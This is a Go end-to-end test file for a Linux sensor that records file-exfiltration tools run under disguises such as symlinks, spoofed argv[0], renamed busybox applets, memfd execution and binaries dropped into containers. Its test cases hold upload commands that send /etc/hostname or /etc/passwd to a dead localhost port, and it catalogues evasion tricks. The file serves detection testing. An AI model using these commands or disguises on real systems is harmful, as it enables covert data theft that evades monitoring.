//go:build linux

package e2e

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/copywatch/copywatch/internal/schema"
	"github.com/copywatch/copywatch/internal/testhost"
	"github.com/copywatch/copywatch/internal/testprocess"
)

// disguised is an execution of a tool that does not look like one.
type disguised struct {
	program
	tool, match string
	evasion     string // one of the record's, where not empty
	local       string // a local path that is found nevertheless, where not empty
}

// However a tool is executed, the record says which it is.
func TestDisguises(t *testing.T) {
	s := watch(t)
	curl := testhost.NeedCommand(t, "curl", "curl")
	busybox := testhost.NeedCommand(t, "busybox", "busybox-static")
	dir := publicDir(t)
	at := func(name string) string { return filepath.Join(dir, name) }
	install := func(name, from string) string {
		copyFile(t, from, at(name))
		mustChmod(t, at(name), 0o755)
		return at(name)
	}
	script := func(name string, lines ...string) string {
		writeLines(t, at(name), lines...)
		mustChmod(t, at(name), 0o755)
		return at(name)
	}
	closed := "127.0.0.1:9" // nobody is there: what is executed is recorded before it can fail
	upload := []string{"-sS", "-T", "/etc/hostname", "http://" + closed + "/"}
	mustSymlink(t, curl, at("innocent"))
	mustSymlink(t, busybox, at("wget"))
	padding := strings.Repeat("x", 100_000)

	for name, d := range map[string]disguised{
		"a symbolic link": {command(append([]string{at("innocent")}, upload...)...), "curl", "name", "symlinked", "/etc/hostname"},
		"another argv[0]": {
			program{path: curl, args: append([]string{"[kworker/0:1]"}, upload...)}, "curl", "name", "argv0_mismatch", "/etc/hostname",
		},
		"the dynamic loader":             {command(append([]string{loader(t, curl), curl}, upload...)...), "curl", "loader", "loader", "/etc/hostname"},
		"the dynamic loader and options": {command(append([]string{loader(t, curl), "--library-path", "/lib", curl}, upload...)...), "curl", "loader", "loader", "/etc/hostname"},
		"an applet by link":              {command(at("wget"), "-q", "--post-file=/etc/hostname", "http://"+closed+"/"), "wget", "applet", "", "/etc/hostname"},
		"an applet by argument":          {command(busybox, "wget", "--post-file=/etc/hostname", "http://"+closed+"/"), "wget", "applet", "", "/etc/hostname"},
		"an applet of a renamed busybox": {
			program{path: install("init", busybox), args: []string{"wget", "--post-file=/etc/hostname", "http://" + closed + "/"}}, "wget", "applet", "", "/etc/hostname",
		},
		"a script that runs it": {command(script("backup.sh", "#!/bin/sh", "exec "+curl+" "+strings.Join(upload, " "))), "curl", "name", "", "/etc/hostname"},
		"a static build":        {program{path: install("static", busybox), args: []string{"tftp", "-p", "-l", "/etc/hostname", "127.0.0.1", "9"}}, "tftp", "applet", "", "/etc/hostname"},
		"arguments that are padded beyond the buffer": {
			command(append([]string{curl, "-H", "X: " + padding}, upload...)...), "curl", "name", "", "/etc/hostname",
		},
		"through /proc/self/exe":       {throughSelf(t, install("rclone", mustExecutable(t)), "copy", "/etc/hostname", "remote:x"), "rclone", "name", "", "/etc/hostname"},
		"in another root":              {inRoot(program{path: "/bin/tool", args: []string{"tftp", "-p", "-l", "/etc/hostname", "127.0.0.1", "9"}}, rootWith(t, busybox)), "tftp", "applet", "", "/etc/hostname"},
		"in a user namespace":          {inUserNamespace(command(append([]string{install("mine", curl)}, upload...)...)), "curl", "content", "renamed", "/etc/hostname"},
		"by vfork":                     {byVfork(append([]string{curl}, upload...)...), "curl", "name", "", "/etc/hostname"},
		"by posix_spawn":               {byPosixSpawn(t, append([]string{curl}, upload...)...), "curl", "name", "", "/etc/hostname"},
		"deleted as soon as it runs":   {command("/bin/sh", "-c", install("gone", curl)+" --max-time 2 -sS -T /etc/hostname http://"+silent(t)+" & sleep 0.2; rm "+at("gone")+"; wait"), "curl", "content", "renamed", "/etc/hostname"},
		"a name of another tool":       {command(append([]string{install("rsync", curl)}, upload...)...), "curl", "content", "renamed", "/etc/hostname"},
		"a version in its name":        {command(append([]string{install("curl-8.5.0", curl)}, upload...)...), "curl", "name", "", "/etc/hostname"},
		"as the interpreter of a file": {command(script("data", "#!"+curl+" -sST/etc/hostname", "x")), "curl", "", "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			d.env = append(d.env, "PATH=/usr/bin:/bin", "HOME=/nonexistent")
			s.requireTool(t, start(t, d.program), d)
		})
	}
}

// requireTool wants one of the execs of a program and its children to be that of the tool.
func (s *sensor) requireTool(t *testing.T, c *child, d disguised) {
	t.Helper()
	var seen []string
	found := testprocess.Await(func() bool { // what a shell starts may come later than the shell
		seen = nil
		for _, r := range s.execs(t, c) {
			faults := d.faults(r)
			if len(faults) == 0 {
				return true
			}
			seen = append(seen, r.text(schema.ExecutablePath)+": "+strings.Join(faults, ", "))
		}
		return false
	})
	if !found {
		t.Errorf("there is no record of %s; those that are there:\n%s", d.tool, strings.Join(seen, "\n"))
	}
}

// faults says what a record lacks to be that of the tool.
func (d disguised) faults(r record) (faults []string) {
	if r.EventName() != schema.EventCopy || r.text(schema.Tool) != d.tool {
		return []string{"is of " + r.EventName() + " " + r.text(schema.Tool)}
	}
	fault := func(wrong bool, field string, got any) {
		if wrong {
			faults = append(faults, fmt.Sprintf("%s is %q", field, got))
		}
	}
	fault(d.match != "" && r.text(schema.Match) != d.match, schema.Match, r.text(schema.Match))
	fault(d.evasion != "" && !slices.Contains(r.texts(schema.Evasions), d.evasion), schema.Evasions, r.texts(schema.Evasions))
	fault(d.local != "" && !slices.Contains(r.texts(schema.LocalPaths), d.local), schema.LocalPaths, r.texts(schema.LocalPaths))
	return faults
}

// silent is the address of a server that never answers.
func silent(t *testing.T) string {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	return listener.Addr().String()
}

// throughSelf is a program that executes itself again, by /proc/self/exe and with another argv[0].
func throughSelf(t *testing.T, path string, args ...string) program {
	p := helper(t, "self-exe", args...)
	p.path = path
	return p
}

// loader returns the dynamic loader that a program asks for.
func loader(t *testing.T, program string) string {
	t.Helper()
	for _, pattern := range []string{"/lib64/ld-linux*.so.*", "/lib/ld-linux*.so.*", "/lib/*/ld-linux*.so.*"} {
		if found, _ := filepath.Glob(pattern); len(found) > 0 {
			return found[0]
		}
	}
	t.Skip("optional: needs glibc's dynamic loader")
	return ""
}

// rootWith makes a root file system in which a busybox has the name tool.
func rootWith(t *testing.T, busybox string) string {
	t.Helper()
	dir := publicDir(t)
	makeImage(t, dir, "alice")
	copyFile(t, busybox, dir+"/bin/tool")
	mustChmod(t, dir+"/bin/tool", 0o755)
	return dir
}

func inRoot(p program, root string) program {
	p.sys = &syscall.SysProcAttr{Chroot: root}
	p.dir = "/"
	return p
}

func inUserNamespace(p program) program {
	p.sys = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	return p
}

// byVfork: Go starts programs with CLONE_VFORK itself.
func byVfork(args ...string) program { return command(args...) }

const spawnSource = `
#include <spawn.h>
#include <sys/wait.h>
int main(int argc, char **argv)
{
	extern char **environ;
	pid_t pid;
	if (posix_spawn(&pid, argv[1], 0, 0, argv + 1, environ))
		return 1;
	return waitpid(pid, 0, 0) < 0;
}
`

func byPosixSpawn(t *testing.T, args ...string) program {
	t.Helper()
	dir := publicDir(t)
	cc := testhost.NeedCommand(t, "gcc", "gcc")
	writeLines(t, dir+"/spawn.c", spawnSource)
	if out, err := exec.Command(cc, "-O2", "-o", dir+"/spawn", dir+"/spawn.c").CombinedOutput(); err != nil {
		t.Fatalf("compile: %v\n%s", err, out)
	}
	return command(append([]string{dir + "/spawn"}, args...)...)
}

const shortSource32 = `
void _start(void)
{
	__asm__ volatile("int $0x80" : : "a"(1), "b"(0));
}
`

// A program of 32 bits is recorded as any other, where the kernel runs such.
func TestProgramOf32Bits(t *testing.T) {
	s := watch(t)
	cc := testhost.NeedCommand(t, "gcc", "gcc")
	dir := publicDir(t)
	writeLines(t, dir+"/short.c", shortSource32)
	if out, err := exec.Command(cc, "-m32", "-O2", "-static", "-nostdlib", "-o", dir+"/scp", dir+"/short.c").CombinedOutput(); err != nil {
		t.Skipf("optional: needs a compiler for 32 bits: %s", lastLine(string(out)))
	}
	if err := exec.Command(dir + "/scp").Run(); err != nil {
		t.Skipf("optional: needs a kernel that runs programs of 32 bits: %v", err)
	}
	c := run(t, command(dir+"/scp", "/etc/hostname", "h.example.org:"))
	s.requireTool(t, c, disguised{tool: "scp", match: "name", local: "/etc/hostname"})
}

// A program that ends at once is recorded whole.
func TestProgramThatEndsAtOnce(t *testing.T) {
	s := watch(t)
	dir := publicDir(t)
	copyFile(t, tiny(t), dir+"/rclone")
	mustChmod(t, dir+"/rclone", 0o755)
	for range 20 {
		c := run(t, command(dir+"/rclone", "copy", "/etc/hostname", "remote:bucket"))
		s.requireTool(t, c, disguised{tool: "rclone", match: "name", local: "/etc/hostname"})
	}
}

// A tool that a container's image did not have, and that nobody can see any more when its record is made.
func TestToolDroppedIntoAContainer(t *testing.T) {
	s := watch(t)
	box := newContainer(t, "carol")
	marker := newMarker(t)
	runc := box.start(t, marker, "cp /bin/busybox /tmp/.x; /bin/busybox ln -s .x /tmp/tftp; /tmp/tftp -p -l /etc/passwd 127.0.0.1 9 & /bin/busybox sleep 1; kill $!", nil)
	runc.wait(t)
	for _, r := range s.awaitExecs(t, marker, 4) {
		if r.text(schema.ExecutablePath) != "/tmp/.x" {
			continue
		}
		for name, want := range map[string]string{schema.Tool: "tftp", schema.Match: "applet", schema.Direction: "upload"} {
			if got := r.text(name); got != want {
				t.Errorf("%s is %q, and should be %q", name, got, want)
			}
		}
		if got := r.texts(schema.Evasions); !slices.Contains(got, "dropped_binary") {
			t.Errorf("%s is %q", schema.Evasions, got)
		}
		return
	}
	t.Error("there is no record of the dropped tool")
}

// A Go program says what it was built from, whatever its file is called.
func TestGoToolUnderAnotherName(t *testing.T) {
	s := watch(t)
	goTool := testhost.NeedCommand(t, "go", "golang")
	dir := publicDir(t)
	writeLines(t, dir+"/go.mod", "module github.com/rclone/rclone", "go 1.21")
	writeLines(t, dir+"/main.go", "package main", "func main() {}")
	build := exec.Command(goTool, "build", "-ldflags=-s -w", "-o", dir+"/kworker", ".")
	build.Dir, build.Env = dir, append(os.Environ(), "GOFLAGS=", "GOWORK=off", "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	c := run(t, command(dir+"/kworker", "copy", "/etc/hostname", "remote:bucket"))
	s.requireTool(t, c, disguised{tool: "rclone", match: "content", evasion: "renamed", local: "/etc/hostname"})
}

// A script has no notes, but what it says.
func TestScriptUnderAnotherName(t *testing.T) {
	s := watch(t)
	script := testhost.NeedCommand(t, "rsync-ssl", "rsync")
	dir := publicDir(t)
	copyFile(t, script, dir+"/notes")
	mustChmod(t, dir+"/notes", 0o755)
	p := command(dir+"/notes", "/etc/hostname", "rsync://127.0.0.1:9/module/")
	p.env = []string{"PATH=/usr/bin:/bin"}
	c := run(t, p)
	s.requireTool(t, c, disguised{tool: "rsync-ssl", match: "content", evasion: "script_copied", local: "/etc/hostname"})
}

// execveat runs a file that has no path at all.
func TestToolInMemoryByHandle(t *testing.T) {
	s := watch(t)
	curl := testhost.NeedCommand(t, "curl", "curl")
	p := helper(t, "by-handle", "--max-time", "2", "-sS", "-T", "/etc/hostname", "http://"+silent(t))
	p.extra = inMemory(t, curl)
	s.requireTool(t, start(t, p), disguised{tool: "curl", match: "content", evasion: "memfd", local: "/etc/hostname"})
}
